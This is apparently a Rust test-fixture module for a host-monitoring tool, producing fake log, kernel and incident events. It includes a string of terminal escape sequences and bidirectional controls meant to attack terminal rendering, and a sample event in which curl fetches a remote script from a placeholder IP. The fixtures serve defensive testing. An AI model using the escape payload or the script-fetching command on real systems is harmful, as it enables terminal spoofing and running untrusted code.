//! Made-up events, vitals and states for tests: ordinary, and hostile.

mod host;
mod series;

use hark_api::{
    Event, EventId, Evidence, Fields, Incident, IncidentId, IncidentRecord, Kind, Level, Note,
    Process, Reason, ReasonCode, ReturnPeriod, Source, Suspect, Template, Tier, Timestamp, Verdict,
};

pub(crate) use host::{hosts, status, vitals};
pub(crate) use series::{heat, listed, load_points, memory_data, series};

/// 2026-01-31T12:00:00Z.
pub(crate) const NOON: Timestamp = Timestamp::from_nanos(1_769_860_800_000_000_000);

/// Escapes, bidirectional controls, invisible and wide characters and piled-up marks.
pub(crate) const HOSTILE: &str = "\u{1B}[2J\u{1B}]0;owned\u{7}\u{9B}31m\u{202E}live\u{2066}\u{200B}\u{FEFF}\
日本語ログ🦀👩\u{200D}👩\u{200D}👧 e\u{301}\u{301}\u{301}\u{301}\u{301}\r\n\tend";

/// A log event; the time is noon less ten minutes, and a second for each id.
pub(crate) fn log(id: u64, message: &str) -> Event {
    let time = NOON.plus_nanos((id as i64 - 600) * 1_000_000_000);
    Event {
        id: EventId(id),
        time,
        received: time.plus_nanos(1_500_000),
        source: Source::Log,
        kind: Kind::Log,
        level: Level::Info,
        message: message.to_owned(),
        template: None,
        service: Some("web".to_owned()),
        host: None,
        process: None,
        fields: Fields::new(),
        trace: None,
        verdict: Verdict::default(),
    }
}

/// A kernel event about a process.
pub(crate) fn kernel(id: u64, kind: Kind, comm: &str, message: &str) -> Event {
    Event {
        source: Source::Kernel,
        kind,
        service: None,
        process: Some(Box::new(Process {
            pid: 4_000 + id as u32,
            ppid: Some(1),
            uid: Some(33),
            comm: comm.to_owned(),
            exe: Some(format!("/usr/bin/{comm}")),
            cgroup: Some("/system.slice/web.service".to_owned()),
            unit: Some("web.service".to_owned()),
            ..Process::default()
        })),
        ..log(id, message)
    }
}

/// An attempt to connect that took as many milliseconds as its id, or failed.
pub(crate) fn connect(id: u64, error: Option<&str>) -> Event {
    let mut event = kernel(
        id,
        Kind::TcpConnect,
        "curl",
        "curl connected to 10.0.0.7:443",
    );
    event.fields.set("latency", id as f64 / 1e3);
    let outcome = error.map_or("established", |_| "failed");
    event.fields.set("outcome", outcome);
    if let Some(error) = error {
        event.fields.set("error", error);
    }
    event
}

/// Sums of system calls that failed, over the last minutes; the name stands in every text.
pub(crate) fn failed_calls(name: Option<&str>) -> Vec<Event> {
    let calls = [
        ("php-fpm", "openat", "ENOENT", 400),
        ("curl", "connect", "ECONNREFUSED", 10),
        ("cron", "setuid", "EPERM", 2),
    ];
    let each = |at: u64| {
        calls.into_iter().map(move |(command, call, error, count)| {
            let mut event = kernel(590 + at, Kind::SyscallError, "", "calls failed");
            event.process = None;
            let texts = [("command", command), ("call", call), ("error", error)];
            for (field, text) in texts {
                event.fields.set(field, name.unwrap_or(text));
            }
            event.fields.set("count", count);
            event
        })
    };
    (0..6).flat_map(each).collect()
}

/// Log templates, most frequent first; the name stands in every text.
pub(crate) fn templates(name: Option<&str>) -> Vec<Template> {
    let lines = [
        (1, "GET /items/<*> 200 in <*> ms", 1_203_456),
        (4, "cache hit ratio <*>", 88_120),
        (2, "connection refused by <*>", 412),
        (9, "out of disk space on <*>", 1),
    ];
    let template = |(id, text, count): (u32, &str, u64)| Template {
        id,
        text: name.map_or(text.to_owned(), |name| format!("{name} <*> {name}")),
        count,
    };
    lines.map(template).to_vec()
}

fn unusual(mut event: Event, tier: Tier, code: ReasonCode, why: &str, days: Option<f64>) -> Event {
    event.verdict = Verdict {
        tier,
        rarity: days.map(|days| ReturnPeriod::from_secs(days * 86_400.0)),
        reasons: vec![Reason {
            value: Some(412.0),
            band: Some((0.0, 31.5)),
            p: Some(3.2e-7),
            history: Some(6.5 * 86_400.0),
            ..Reason::new(code, why)
        }],
    };
    event
}

/// Ten minutes on an ordinary host, with something to find.
pub(crate) fn events() -> Vec<Event> {
    let mut events: Vec<Event> = (1..=596)
        .map(|id| match id % 7 {
            0 => kernel(id, Kind::Exec, "cron", "/usr/sbin/cron -f"),
            4 if id > 580 => connect(id, (id % 2 == 0).then_some("ECONNREFUSED")),
            3 => kernel(id, Kind::Exit, "cron", "exited with status 0 after 1.20 s"),
            5 => Event {
                level: Level::Debug,
                ..log(id, "cache hit ratio 0.97")
            },
            _ => log(
                id,
                &format!("GET /items/{} 200 in {} ms", id * 7 % 83, 3 + id % 9),
            ),
        })
        .collect();
    events.push(unusual(
        Event {
            level: Level::Error,
            service: Some("db".into()),
            ..log(597, "connection refused by 10.0.0.7:5432")
        },
        Tier::Warning,
        ReasonCode::Burst,
        "412 in a minute, where up to 31 are usual",
        Some(12.0),
    ));
    events.push(unusual(
        Event { level: Level::Critical, ..kernel(598, Kind::OomKill, "postgres", "killed for want of memory in /system.slice/db.service: 1.20 GiB resident, limit 1.25 GiB") },
        Tier::Critical,
        ReasonCode::Fact,
        "the kernel killed a process for want of memory",
        None,
    ));
    events.push(unusual(
        kernel(599, Kind::Exec, "curl", "curl -s http://198.51.100.7/x.sh"),
        Tier::Notice,
        ReasonCode::New,
        "web.service never ran curl before",
        Some(2.5),
    ));
    events.push(log(600, "GET /health 200 in 1 ms"));
    events
}

/// Events whose every text is an attack on the terminal.
pub(crate) fn hostile_events() -> Vec<Event> {
    (1..=40)
        .map(|id| {
            let mut event = kernel(id, Kind::Exec, HOSTILE, HOSTILE);
            event.service = Some(HOSTILE.into());
            event.host = Some(HOSTILE.into());
            event.fields = [(HOSTILE, HOSTILE), ("argv", HOSTILE)]
                .into_iter()
                .collect();
            let tier = Tier::ALL[id as usize % 5];
            unusual(event, tier, ReasonCode::New, HOSTILE, Some(3.0))
        })
        .collect()
}

/// Three incidents: one over, one grave and open, one that events were lost in.
pub(crate) fn incidents(name: Option<&str>) -> Vec<IncidentRecord> {
    let text = |usual: &str| name.unwrap_or(usual).to_owned();
    let ago = |secs: i64| NOON.plus_nanos(-secs * 1_000_000_000);
    let incident = |id, tier, start, end: Option<i64>, title: &str| IncidentRecord {
        incident: Incident {
            id: IncidentId(id),
            title: text(title),
            tier,
            rarity: Some(ReturnPeriod::from_secs(86_400.0 * 9.0 * id as f64)),
            start: ago(start),
            peak: ago(start - 5),
            last: ago(start - 20),
            end: end.map(ago),
            suspects: vec![
                Suspect {
                    kind: "process".into(),
                    name: text("postgres"),
                    pid: Some(4_598),
                    share: 0.72,
                },
                Suspect {
                    kind: "service".into(),
                    name: text("db"),
                    pid: None,
                    share: 0.28,
                },
            ],
            findings: 40,
            evidence: vec![
                Evidence {
                    time: ago(start - 5),
                    tier,
                    text: text("the kernel killed postgres[4598]: out of memory"),
                    count: 1,
                },
                Evidence {
                    time: ago(start - 8),
                    tier: Tier::Warning,
                    text: text("412 connection failures in a minute, where up to 31 are usual"),
                    count: 37,
                },
            ],
            events: vec![EventId(598)],
            series: vec![text("node_memory_MemAvailable_bytes").as_str().into()],
            tainted: id == 3,
        },
        acknowledged: None,
        silenced_until: None,
        notes: vec![],
    };
    let mut records = vec![
        incident(
            1,
            Tier::Warning,
            7_200,
            Some(6_000),
            "a burst of logs of web",
        ),
        incident(
            2,
            Tier::Critical,
            180,
            None,
            "postgres was killed for want of memory after its control group reached 1.25 GiB; 37 connection failures followed",
        ),
        incident(
            3,
            Tier::High,
            60,
            None,
            "curl was started by web.service for the first time",
        ),
    ];
    records[0].notes = vec![Note {
        time: ago(6_500),
        by: text("uid 0"),
        text: text("a load test, expected"),
    }];
    records
}
